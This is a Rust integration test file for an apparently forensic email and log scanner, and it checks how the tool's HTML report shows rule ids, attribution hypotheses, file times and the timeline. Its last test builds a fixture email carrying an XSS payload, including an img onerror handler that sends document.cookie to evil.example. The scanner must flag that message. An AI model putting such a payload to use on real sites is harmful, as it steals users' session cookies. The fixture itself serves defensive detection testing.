//! Issue 14: the report of the embedded lab run reads well at length —
//! short rule ids, each hypothesis once with its strongest evidence first,
//! accounts without a finding folded and off the chart, a file's
//! modification time marked and kept off the time axis.

use serde_json::Value;

mod common;

fn lab_report() -> (tempfile::TempDir, String, String) {
    let case = tempfile::tempdir().unwrap();
    common::scan(case.path(), &[], &[common::example()]);
    let html = std::fs::read_to_string(case.path().join("report.html")).unwrap();
    let md = std::fs::read_to_string(case.path().join("report.md")).unwrap();
    (case, html, md)
}

/// The text between `start` and the next `end` after it.
fn between<'a>(text: &'a str, start: &str, end: &str) -> &'a str {
    let from = text.find(start).unwrap_or_else(|| panic!("no {start}")) + start.len();
    let to = text[from..].find(end).map_or(text.len(), |i| from + i);
    &text[from..to]
}

fn is_uuid(s: &str) -> bool {
    s.len() == 36
        && s.bytes().enumerate().all(|(i, b)| match i {
            8 | 13 | 18 | 23 => b == b'-',
            _ => b.is_ascii_hexdigit(),
        })
}

#[test]
fn rule_ids_are_short_and_titles_are_shown() {
    let (case, html, md) = lab_report();
    let findings = common::findings_of(case.path());
    let uuids: Vec<&str> = findings
        .iter()
        .filter_map(|f| f["rule_id"].as_str())
        .filter(|id| is_uuid(id))
        .collect();
    assert!(!uuids.is_empty(), "the lab run has Sigma rules' findings");
    for id in &uuids {
        // A whole UUID is only ever a tooltip; the cell shows its first eight digits.
        for (at, _) in html.match_indices(id) {
            assert!(html[..at].ends_with("title=\""), "{id} shown whole");
        }
        assert!(html.contains(&format!(">{}</small>", &id[..8])), "{id}");
        assert!(!md.contains(id), "{id} in the Markdown");
    }
    for f in &findings {
        let title = f["title"].as_str().unwrap();
        assert!(!title.contains('_'), "an internal name in a title: {title}");
    }
}

#[test]
fn each_hypothesis_once_with_its_strongest_evidence_first() {
    let (case, html, _) = lab_report();
    let attribution: Value = serde_json::from_str(
        &std::fs::read_to_string(case.path().join("attribution.json")).unwrap(),
    )
    .unwrap();
    let table = between(&html, "<h2>Attribution hypotheses</h2>", "</table>");
    let hypotheses = attribution["hypotheses"].as_array().unwrap();
    assert!(hypotheses.len() >= 4);
    for h in hypotheses {
        let name = h["name"].as_str().unwrap();
        let cell = format!("<tr><td><b>{name}</b>");
        assert_eq!(table.matches(&cell).count(), 1, "{name}");
        // Its evidence, in the order shown: weights never rise.
        let row = between(table, &cell, "</tr>");
        let weights: Vec<f64> = row
            .split("<span class=\"weight\">(")
            .skip(1)
            .map(|s| {
                let w = &s[..s.find(')').unwrap()];
                w.replace('\u{2212}', "-")
                    .trim_start_matches('+')
                    .parse()
                    .unwrap()
            })
            .collect();
        assert!(
            weights.windows(2).all(|w| w[0] >= w[1]),
            "{name}: {weights:?}"
        );
    }
    // The lab's first hypothesis leads with a behaviour worth two, not
    // with the overlap of techniques most profiles share.
    let first = between(table, "<td class=\"wide\"><div>", "</div>");
    assert!(first.contains("(+2)"), "{first}");
}

#[test]
fn file_times_are_marked_and_off_the_axis_and_quiet_accounts_folded() {
    let (case, html, _) = lab_report();
    let findings = common::findings_of(case.path());
    // The Sieve scripts' findings carry the files' modification time.
    let file_times: Vec<&Value> = findings
        .iter()
        .filter(|f| f["rule_id"].as_str().unwrap().starts_with("VS"))
        .collect();
    assert!(!file_times.is_empty());
    let chart = between(&html, "<svg", "</svg>");
    for f in &file_times {
        let time = f["first_seen"].as_str().unwrap();
        assert!(!chart.contains(time), "{time} on the time axis");
        assert!(
            html.contains(&format!(
                "<span class=\"filetime\">file modified {time}</span>"
            )),
            "{time} not listed apart"
        );
    }
    // The axis ends at the last event of the logs (the ground truth's last step).
    assert!(
        chart.contains(">2026-11-29T02:11:30Z</text></svg>")
            || chart.ends_with(">2026-11-29T02:11:30Z</text>"),
        "{chart}"
    );
    // Accounts without a finding: folded, and no lane of the chart.
    let scope: Value =
        serde_json::from_str(&std::fs::read_to_string(case.path().join("scope.json")).unwrap())
            .unwrap();
    let quiet: Vec<&str> = scope["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["findings"] == 0)
        .map(|a| a["account"].as_str().unwrap())
        .collect();
    assert!(
        !quiet.is_empty(),
        "the lab run has accounts without a finding"
    );
    let folded = between(&html, "accounts without a finding", "<h2>");
    for account in quiet {
        assert!(
            !chart.contains(&format!(">{account}<")),
            "{account} has a lane"
        );
        assert!(
            folded.contains(&format!("<h3>{account} ")),
            "{account} not folded"
        );
    }
}

/// A fresh user's retest: an exploit message with no arrival time (no
/// delivery time in its Maildir name, no `Date:`) made "when" answer
/// 1970-01-01, the epoch the mail stage dates it at.
#[test]
fn an_undated_message_is_out_of_when_and_off_the_axis() {
    let dir = tempfile::tempdir().unwrap();
    let maildir = dir.path().join("Maildir");
    for sub in ["cur", "new", "tmp"] {
        std::fs::create_dir_all(maildir.join(sub)).unwrap();
    }
    std::fs::write(
        maildir.join("cur/nodate:2,S"),
        "From: a@evil.example\r\nTo: b@corp.example\r\nSubject: invoice\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n\
         <html><body><svg><animate onbegin=\"alert(1)\" attributeName=\"x\"/></svg>\
         <img src=x onerror=\"fetch('https://evil.example/?'+document.cookie)\"></body></html>\r\n",
    )
    .unwrap();
    let case = tempfile::tempdir().unwrap();
    common::scan_any(case.path(), &[], &[maildir]);
    let findings = common::findings_of(case.path());
    assert!(
        findings.iter().any(|f| {
            f["rule_id"].as_str().unwrap().starts_with("VM")
                && matches!(f["level"].as_str(), Some("high" | "critical"))
        }),
        "{findings:?}"
    );
    let answers: Value =
        serde_json::from_str(&std::fs::read_to_string(case.path().join("answers.json")).unwrap())
            .unwrap();
    assert!(answers["when"].is_null(), "{}", answers["when"]);
    let html = std::fs::read_to_string(case.path().join("report.html")).unwrap();
    assert!(!html.contains("1970-01-01"), "the epoch shown as a time");
    assert!(
        html.contains("<span class=\"filetime\">no arrival time</span>"),
        "not listed apart"
    );
    // The timeline gives it no time either.
    let timeline = std::fs::read_to_string(case.path().join("timeline.csv")).unwrap();
    assert!(!timeline.contains("1970-01-01"), "{timeline}");
    assert!(
        timeline
            .lines()
            .skip(1)
            .any(|row| row.starts_with(",high,VM") || row.starts_with(",critical,VM")),
        "{timeline}"
    );
}
